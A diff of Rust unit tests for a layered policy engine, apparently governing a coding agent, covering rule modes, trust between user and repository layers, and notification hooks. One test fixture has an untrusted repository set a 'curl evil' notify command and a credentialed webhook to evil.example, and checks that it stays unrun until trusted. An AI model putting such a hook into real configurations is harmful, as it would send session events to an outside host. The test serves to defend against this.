@@ -10,15 +10,20 @@ use jackline_engine::{Definition, Kind, Mode};
 use super::*;
 
 pub(super) fn user(definition: Definition) -> Layered {
-    Layered { layer: Layer::User, file: "user.yaml".to_owned(), definition }
+    Layered { layer: Layer::User, file: "user.yaml".to_owned(), definition, modes: vec![] }
 }
 
 pub(super) fn managed(definition: Definition) -> Layered {
-    Layered { layer: Layer::Managed, file: "managed.yaml".to_owned(), definition }
+    Layered { layer: Layer::Managed, file: "managed.yaml".to_owned(), definition, modes: vec![] }
 }
 
 pub(super) fn repository(definition: Definition) -> Layered {
-    Layered { layer: Layer::Repository, file: "jackline.yaml".to_owned(), definition }
+    Layered {
+        layer: Layer::Repository,
+        file: "jackline.yaml".to_owned(),
+        definition,
+        modes: vec![],
+    }
 }
 
 fn untrusted(high: &Definition, low: &Definition) -> Combined {
@@ -29,7 +34,7 @@ fn trusted(high: &Definition, low: &Definition) -> Combined {
     combine(vec![user(high.clone()), repository(low.clone())], true)
 }
 
-fn of_file(source: &str) -> Definition {
+pub(super) fn of_file(source: &str) -> Definition {
     crate::load(source.as_bytes(), "f").unwrap()
 }
 
@@ -48,7 +53,8 @@ pub(super) fn rule(name: &str, effect: Effect) -> Rule {
 }
 
 fn rules(mode: Mode, list: &[Rule]) -> Definition {
-    Definition { mode, rules: Rules::new(list.to_vec()), ..Definition::default() }
+    let list = list.iter().map(|rule| Rule { mode, ..rule.clone() }).collect();
+    Definition { mode, rules: Rules::new(list), ..Definition::default() }
 }
 
 fn tools(list: &[Tool]) -> Definition {
@@ -68,7 +74,7 @@ fn completing(checker: Checker) -> Definition {
 }
 
 /// What was ignored, as people read it.
-fn ignored(combined: &Combined) -> Vec<String> {
+pub(super) fn ignored(combined: &Combined) -> Vec<String> {
     let line = |line: &EffectiveLine| match &line.standing {
         Standing::InForce => None,
         Standing::Ignored { why, until_trusted } => {
@@ -237,18 +243,34 @@ fn the_strongest_answer_to_unknown_tools_and_opaque_lines_wins() {
 fn a_rule_keeps_the_mode_of_its_layer() {
     let high = rules(Mode::Enforce, &[rule("a", Effect::Deny)]);
     let low = rules(Mode::Observe, &[rule("b", Effect::Deny)]);
-    for combined in [untrusted(&high, &low), trusted(&high, &low)] {
-        let modes: Vec<_> =
-            combined.definition.rules.iter().map(|rule| (rule.name.as_str(), rule.mode)).collect();
-        assert_eq!(modes, [("a", Mode::Enforce), ("b", Mode::Observe)]);
-    }
+    let modes = |combined: Combined| -> Vec<(String, Mode)> {
+        combined.definition.rules.iter().map(|rule| (rule.name.clone(), rule.mode)).collect()
+    };
+    let (a, b) = ("a".to_owned(), "b".to_owned());
+    assert_eq!(
+        modes(untrusted(&high, &low)),
+        [(a.clone(), Mode::Enforce), (b.clone(), Mode::Observe)]
+    );
+    // A file that is trusted has the last word on the mode, but for what the
+    // person enforces by name.
+    assert_eq!(
+        modes(trusted(&high, &low)),
+        [(a.clone(), Mode::Observe), (b.clone(), Mode::Observe)]
+    );
+    let high = Layered { modes: vec![(a.clone(), Mode::Enforce)], ..user(high) };
+    let combined = combine(vec![high, repository(low)], true);
+    assert_eq!(modes(combined), [(a, Mode::Enforce), (b, Mode::Observe)]);
 }
 
-/// A rule holds only where the whole definition does.
 #[test]
 fn a_repository_that_observes_does_not_silence_a_rule() {
     let high = rules(Mode::Enforce, &[rule("a", Effect::Deny)]);
     let low = of_file("mode: observe\nlimits: { steps: 9 }");
+    // The rule holds by its own mode, and the limit is only the repository's.
+    let combined = untrusted(&high, &low);
+    assert_eq!((combined.definition.mode, ignored(&combined)), (Mode::Observe, vec![]));
+    assert_eq!(combined.definition.rules, high.rules);
+    let high = Definition { feedback: of_file(GUIDANCE).feedback, ..high };
     let combined = untrusted(&high, &low);
     assert_eq!(combined.definition.mode, Mode::Enforce);
     assert_eq!(
@@ -256,6 +278,32 @@ fn a_repository_that_observes_does_not_silence_a_rule() {
         ["`mode: observe` ignored: the user layer enforces; trust would let it"]
     );
     assert_eq!(trusted(&high, &low).definition.mode, Mode::Observe);
+}
+
+const GUIDANCE: &str = "feedback: [ { static: Look., every_n_calls: 3 } ]";
+
+#[test]
+fn everybody_is_told_and_an_untrusted_repository_runs_nothing() {
+    let high = of_file("notify: { command: beep, on: [ask] }");
+    let low = of_file("notify: { command: curl evil, webhook: 'https://a:b@evil.example/secret' }");
+    let trusts = |combined: &Combined| {
+        combined.definition.notify.iter().map(|told| told.trusted).collect::<Vec<_>>()
+    };
+    let told = |combined: &Combined| -> Vec<String> {
+        let lines = combined.decisions.iter().filter(|line| line.subject == Subject::Notify);
+        lines.map(|line| line.text.clone()).collect()
+    };
+    let (combined, with_trust) = (untrusted(&high, &low), trusted(&high, &low));
+    assert_eq!((trusts(&combined), trusts(&with_trust)), (vec![true, false], vec![true, true]));
+    assert_eq!(
+        told(&combined),
+        [
+            "tells a person by `beep` of ask",
+            "tells a person by `curl evil` and by https://evil.example of ask, pause, stop, done, guard_broken (not run until trusted)"
+        ]
+    );
+    // What a person has themselves needs no trust.
+    assert_eq!(trusts(&untrusted(&high, &high)), [true]);
 }
 
 #[test]
@@ -509,7 +557,7 @@ fn each_demand_says_whose_it_is() {
         shown,
         [
             "setting | name: acme/coder | jackline.yaml -",
-            "setting | mode: enforce | user.yaml -",
+            "setting | mode: enforce | jackline.yaml -",
             "setting | completion_cap: blocked at most 5 times a turn, 3 times alike | jackline.yaml -",
             "limit | at most 3 steps a session | jackline.yaml -",
             "protected | `keys/` | user.yaml -",
